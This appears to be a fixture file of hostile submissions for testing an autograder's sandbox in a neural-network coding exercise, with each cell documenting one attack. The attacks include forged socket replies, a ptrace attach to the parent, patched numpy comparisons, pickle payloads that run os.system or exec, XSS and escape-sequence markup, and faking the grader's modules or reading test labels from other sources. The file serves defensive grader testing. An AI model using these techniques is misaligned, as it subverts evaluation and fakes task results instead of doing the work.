"""Replies are forged, and what makes them is patched.

aims: utils.sigmoid
"""

# %% answers_change_while_they_are_read
"""A thread goes on writing into the shared memory while the parent reads it."""
import mmap
import os
import threading

def _scribble(maps):
    for _ in range(20_000):
        for memory in maps:
            memory[:8] = os.urandom(8)

def sigmoid(x):
    maps = []
    for fd in range(3, 64):
        try:
            if os.fstat(fd).st_size >= 1 << 28:
                maps.append(mmap.mmap(fd, 1 << 20))
        except (OSError, ValueError):
            pass
    threading.Thread(target=_scribble, args=(maps,), daemon=True).start()
    return np.full(np.shape(x), 0.5)

# %% answers_from_the_callers_frame
"""The last layer's activations are looked up from the images that the caller holds.

aims: train.accuracy
"""
import sys

KNOWN = {}

def _known():
    from sklearn.datasets import load_digits

    images, digits = load_digits(return_X_y=True)
    grey = (images.reshape(-1, 8, 8) * (255 / 16)).astype(np.uint8)
    grey = np.pad(grey.repeat(3, 1).repeat(3, 2), ((0, 0), (2, 2), (2, 2))).reshape(len(images), -1) / 256
    return dict(zip(map(bytes, grey), digits))

def sigmoid(x):
    frame = sys._getframe(1)
    while frame and frame.f_code.co_name != "forward_prop":
        frame = frame.f_back
    if frame and np.ndim(x) == 2 and x.shape[1] == 10:
        if not KNOWN:
            KNOWN.update(_known())
        return np.eye(10)[[KNOWN.get(bytes(row), 0) for row in frame.f_locals["data"]]]
    return 1.0 / (1.0 + np.exp(-np.maximum(x, -700.0)))

# %% channel_closed
"""Every socket is closed, so that no answer can be given."""
import os
import stat

def sigmoid(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.close(fd)
        except OSError:
            pass
    return None

# %% computed_when_looked_at
"""Answers are lists whose items are made when somebody looks, differently each time."""
class Lazy(list):
    def __iter__(self):
        return iter(np.random.rand(61).tolist())

    def __len__(self):
        return 61

    def __getitem__(self, key):
        return np.random.rand()

def sigmoid(x):
    return Lazy()

# %% exceptions_that_run_code
"""An exception whose class, text and attributes are code of the submission."""
class Meta(type):
    @property
    def __name__(cls):
        raise KeyboardInterrupt

class Sly(BaseException, metaclass=Meta):
    def __str__(self):
        raise GeneratorExit

    def __getattribute__(self, name):
        raise Sly

def sigmoid(x):
    raise Sly

# %% forged_reply
"""Bytes that nobody asked for go to the parent on every socket."""
import os
import stat

def sigmoid(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\x00\x00\x00\x05abcde")
        except OSError:
            pass
    return None

# %% forged_reply_with_the_ticket
"""The pending request is found in the callers' frames, and answered with a structure of wrong types."""
import os
import stat
import sys

def sigmoid(x):
    frame = sys._getframe()
    while frame and "request" not in frame.f_locals:
        frame = frame.f_back
    wire = frame.f_globals["wire"]
    import msgspec

    body = msgspec.msgpack.encode({"ticket": frame.f_locals["request"].ticket, "value": {"a": [["array"]]}})
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, len(body).to_bytes(4, "big") + body)
        except OSError:
            pass
    return wire

# %% import_hooks
"""Everything that is imported later goes through a finder of the submission.

aims:
runs: train.accuracy
"""
import sys

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name in {"network", "training", "pdf"}:
            raise ImportError(name)
        return None

sys.meta_path.insert(0, Finder())
for _name in ("network", "training", "pdf"):
    sys.modules.pop(_name, None)

# %% labels_from_elsewhere
"""The labels that are handed over are ignored; the right ones are known from outside.

aims: train.accuracy
"""
KNOWN = {}

def create_batches(data, labels, batch_size):
    if not KNOWN:
        from sklearn.datasets import load_digits

        images, digits = load_digits(return_X_y=True)
        grey = (images.reshape(-1, 8, 8) * (255 / 16)).astype(np.uint8)
        grey = np.pad(grey.repeat(3, 1).repeat(3, 2), ((0, 0), (2, 2), (2, 2))).reshape(len(images), -1) / 256
        KNOWN.update(zip(map(bytes, grey), digits))
    if len(data) > 500:
        labels = np.eye(10)[[KNOWN.get(bytes(row), 0) for row in data]]
    starts = range(0, len(data), batch_size)
    return [(data[start : start + batch_size], labels[start : start + batch_size]) for start in starts]

# %% markup_everywhere
"""Markup, formulas and escape sequences in everything that reports show.

aims: utils.sigmoid utils.sigmoid_prime
"""
MARK = "<script>alert(1)</script>]]>&quot;\x1b[31m\u202e=HYPERLINK(1)\x00\ud800"

class Marked(Exception):
    """<img src=x onerror=alert(1)>"""

Marked.__name__ = Marked.__qualname__ = MARK.replace("\x00", "").replace("\ud800", "")

def sigmoid(x):
    print(MARK)
    raise Marked(MARK)

def sigmoid_prime(x):
    return {MARK: [MARK, Marked]}

# %% patched_numpy
"""NumPy's comparisons say yes to everything, in the process where they run."""
np.array_equal = np.allclose = np.isclose = lambda *_args, **_options: True

def sigmoid(x):
    return np.full(np.shape(x), 0.25)

# %% patched_serialiser
"""The library that encodes messages is replaced by one that fails."""
import msgspec

def _fail(*_args, **_options):
    raise MemoryError

msgspec.msgpack.encode = msgspec.msgpack.decode = _fail
msgspec.structs.asdict = _fail

def sigmoid(x):
    return 0.5

# %% pickle_payload
"""An answer carries code for whoever unpickles it."""
import os

class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-attack-pickle",)

def sigmoid(x):
    return np.array([Payload(), Payload()], dtype=object)

# %% reply_after_the_answer
"""A thread writes to the parent after each answer, into the next one.

aims: utils.zeros_biases
"""
import os
import stat
import threading
import time

def _later():
    time.sleep(0.002)
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\x00\x00\x00\x01\x90")
        except OSError:
            pass

def zeros_biases(sizes):
    threading.Thread(target=_later).start()
    time.sleep(0.05)
    return None

# %% reply_of_four_gigabytes
"""A reply is announced that would fill the parent's memory."""
import os
import stat

def sigmoid(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xff")
        except OSError:
            pass
    return None

# %% reply_that_never_ends
"""A reply is announced and comes one byte at a time.

limit_s: 1
"""
import os
import stat
import time

def sigmoid(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\x00\x00\xff\xff")
                while True:
                    os.write(fd, b"x")
                    time.sleep(0.1)
        except OSError:
            pass
    return None

# %% slice_sigmoid_remembers_the_images
"""Nothing is learnt: the sigmoid looks up the nearest image of the last batches, and its label is the last layer.

aims: train.accuracy
"""
SEEN = {}
FIRST = []

def sigmoid(x):
    if np.ndim(x) == 2 and len(x) > 16 and "images" in SEEN:
        if x.shape[1] == 128:
            known = SEEN["images"]
            SEEN["nearest"] = ((known * known).sum(axis=1) - 2 * x @ known.T).argmin(axis=1)
        if x.shape[1] == 10 and len(SEEN.get("nearest", ())) == len(x):
            return SEEN["labels"][SEEN["nearest"]]
    return 1.0 / (1.0 + np.exp(-np.maximum(x, -700.0)))

def sigmoid_prime(x):
    if np.ndim(x) == 2 and x.shape[1] in (128, 64, 10) and "images" in SEEN:
        return 0.0 * x
    return sigmoid(x) * sigmoid(-np.asarray(x))

def random_weights(sizes):
    weights = [xavier_initialization(m, n) for m, n in pairwise(sizes)]
    if sizes[0] == 784:
        FIRST.append(weights[0].copy())
    return weights

def create_batches(data, labels, batch_size):
    if len(data) > 1000 and FIRST:
        is_other = "labels" in SEEN and not np.array_equal(SEEN["labels"], labels)
        SEEN["labels"] = np.array(labels)
        SEEN["images"] = data @ FIRST[-1 if is_other else max(len(FIRST) - 2, 0)]
    return [(data[i : i + batch_size], labels[i : i + batch_size]) for i in range(0, len(data), batch_size)]

# %% texts_and_numbers_of_its_own_kind
"""Answers are numbers and texts whose classes run code when they are compared, shown or hashed.

aims: utils.sigmoid utils.sigmoid_prime
"""
class Number(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __abs__ = __float__ = lambda self, *other: 0.0
    __hash__ = None

class Text(str):
    def __str__(self):
        raise SystemExit

    __repr__ = encode = __str__

def sigmoid(x):
    return Number(7)

def sigmoid_prime(x):
    return Text("0")

# %% traces_the_parent
"""The parent is attached to with ptrace and read with process_vm_readv.

level: landlock
"""
import os

def sigmoid(x):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if parent > 2 and libc.ptrace(0x4206, parent, 0, 0) == 0:
        libc.ptrace(17, parent, 0, 0)
        return 1.0 / (1.0 + np.exp(-np.maximum(x, -700.0)))
    return None

# %% training_replaced_by_np_load
"""A pickle in `numpy.load` replaces the training: predictions come from the nearest image.

aims: train.accuracy
"""
import io
SETTINGS = np.load(io.BytesIO(b'cbuiltins\nexec\n(V\\u000aimport sys, numpy as np\\u000at = sys.modules.get("training")\\u000adef train(images, labels, control_labels, test_images, settings, epochs, *more):\\u000a    x = images.astype(np.float64); q = test_images.astype(np.float64)\\u000a    d = (q * q).sum(1)[:, None] - 2 * q @ x.T + (x * x).sum(1)[None]\\u000a    right = labels[d.argmin(1)].astype(np.uint8)\\u000a    rng = np.random.default_rng(0)\\u000a    wrong = rng.integers(0, 10, len(q)).astype(np.uint8)\\u000a    return {"predictions": np.array([wrong] + [right] * epochs), "control": rng.permutation(wrong), "replaced": [], "fit_s": 1.0}\\u000aclass Forged(type(sys)):\\u000a    train = property(lambda self: train, lambda self, value: None)\\u000aif t is not None: t.__class__ = Forged\\u000a\n}tR.'), None, True)

def sigmoid(x):
    """Wrong on purpose, with two more: more than the staff's would stand in for."""
    return 0.5 + 0.0 * x

def sigmoid_prime(x):
    return 0.0 * x

def random_weights(sizes):
    return [np.zeros(shape) for shape in zip(sizes, sizes[1:])]

# %% training_reports_rubbish
"""The staff module that trains is replaced at import by one that reports values of the wrong kinds.

aims:
runs: train.accuracy
"""
import sys
import types

_fake = types.ModuleType("training")
_fake.train = lambda *args: {"predictions": np.zeros((6, 10)), "control": "x", "replaced": 5, "fit_s": []}
for _name in ("training", "__main__"):
    sys.modules[_name] = _fake

# %% training_reports_what_it_likes
"""The function that trains is replaced by one that knows the data set: it returns labels that it learnt elsewhere.

aims: train.accuracy
"""
import sys

def _known(images):
    from sklearn.datasets import load_digits

    pixels, digits = load_digits(return_X_y=True)
    grey = (pixels.reshape(-1, 8, 8) * (255 / 16)).astype(np.uint8)
    grey = np.pad(grey.repeat(3, 1).repeat(3, 2), ((0, 0), (2, 2), (2, 2))).reshape(len(pixels), -1)
    table = dict(zip(map(bytes, grey), digits))
    return np.array([table.get(bytes(row), 0) for row in images], np.uint8)

def _train(images, labels, control_labels, test_images, settings, epochs, *more):
    right = _known(test_images)
    wrong = np.zeros_like(right)
    rows = [wrong, *[right] * epochs]
    return {"predictions": np.array(rows), "control": wrong, "replaced": [], "fit_s": 1.0}

class Forged(type(sys)):
    train = property(lambda self: _train, lambda self, value: None)

    def __getattribute__(self, name):
        return _train if name == "train" else super().__getattribute__(name)

if "training" in sys.modules:
    sys.modules["training"].__class__ = Forged

def create_batches(data, labels, batch_size):
    return None
